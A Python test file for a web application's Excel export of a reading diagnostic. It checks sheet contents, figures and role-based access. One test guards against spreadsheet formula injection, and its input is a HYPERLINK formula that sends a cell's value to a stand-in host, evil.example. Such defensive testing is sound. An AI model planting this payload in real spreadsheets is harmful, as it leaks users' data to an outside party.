"""The diagnostic exported to Excel: one sheet per section, the same figures as the page."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.diagnostics.test_pages import PAGE, district_counts, district_value, state_value

SHEETS = [
    "Summary",
    "History",
    "Peers",
    "Local units",
    "Fastest improvers",
    "Comparators",
    "Equity",
    "Where is the gap",
    "Hypotheses",
]


def workbook(client, path: str):
    response = client.get(path)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    return load_workbook(io.BytesIO(response.content))


def rows(sheet) -> list[tuple]:
    return list(sheet.iter_rows(values_only=True))


def test_the_workbook_has_one_sheet_per_section(login):
    book = workbook(login("leader"), "/priorities/reading/diagnostic.xlsx")
    assert book.sheetnames == SHEETS


def test_the_summary_and_history_hold_the_pages_figures(login):
    book = workbook(login("analyst"), "/priorities/reading/diagnostic.xlsx?k=2")
    summary = dict(rows(book["Summary"])[1:])
    assert summary["Local unit"] == "Testland"
    assert summary["Periods back (k)"] == 2
    assert summary["Average change per period"] == pytest.approx(
        (state_value(3) - state_value(1)) / 2
    )
    history = rows(book["History"])[1:]
    assert [value for _, value in history] == pytest.approx([state_value(i) for i in range(4)])


def test_the_local_units_sheet_ranks_the_districts(login):
    book = workbook(login("analyst"), "/priorities/reading/diagnostic.xlsx?level=district")
    table = [row for row in rows(book["Local units"])[1:] if row and row[0]]
    ranked = {row[1]: row for row in table if row[1] in ("D1", "D2", "D3")}
    assert ranked["D2"][3] == pytest.approx(district_value("D2", 3))
    assert ranked["D2"][4] == 100
    assert ranked["D1"][4] == 0


def test_the_gap_sheet_counts_the_people_needed(login):
    book = workbook(login("analyst"), "/priorities/reading/diagnostic.xlsx?level=district")
    table = rows(book["Where is the gap"])
    needed = {row[0]: row[2] for row in table[1:] if row and row[1] == "All students"}
    numerator, denominator = district_counts("D1", 3)
    assert needed["District D1"] == -(-(75 * denominator - 100 * numerator) // 100)
    total = dict((row[0], row[1]) for row in table if row and row[0] == "Total people needed")
    assert total["Total people needed"] == sum(
        v for k, v in needed.items() if k.startswith("District")
    )


def test_a_district_user_exports_only_their_own_district(login):
    book = workbook(login("district"), "/priorities/reading/diagnostic.xlsx")
    assert dict(rows(book["Summary"])[1:])["Local unit"] == "District D1"
    assert (
        login("district").get("/priorities/reading/diagnostic/D3/diagnostic.xlsx").status_code
        == 404
    )


def test_the_export_is_refused_to_a_person_without_a_role(login):
    assert login("stranger").get("/priorities/reading/diagnostic.xlsx").status_code == 403


def test_the_pages_download_link_keeps_the_chosen_options(login):
    page = login("analyst").get(PAGE + "?level=school&k=2").content.decode()
    assert "/priorities/reading/diagnostic.xlsx?level=school&amp;k=2" in page


def test_a_hypothesis_typed_as_a_formula_is_exported_as_text_not_a_live_formula(login):
    from tests.web.test_workbooks import formulas, text_cells_starting_like_formulas

    owner = login("owner")
    statement = '=HYPERLINK("http://evil.example/?d="&B2,"Open the evidence")'
    fields = {"kind": "hypothesis", "statement": statement, "evidence": "@SUM(1+1)"}
    assert owner.post(PAGE, {**fields, "status": "open"}).status_code == 302
    content = owner.get("/priorities/reading/diagnostic.xlsx?level=district").content
    assert formulas(content) == []
    typed = text_cells_starting_like_formulas(content)
    assert ("Hypotheses", statement, True) in typed
    assert ("Hypotheses", "@SUM(1+1)", True) in typed
    assert all(quoted for _sheet, _value, quoted in typed)
    summary = dict(rows(load_workbook(io.BytesIO(content))["Summary"])[1:])
    assert isinstance(summary["Latest value"], float)  # figures stay numbers
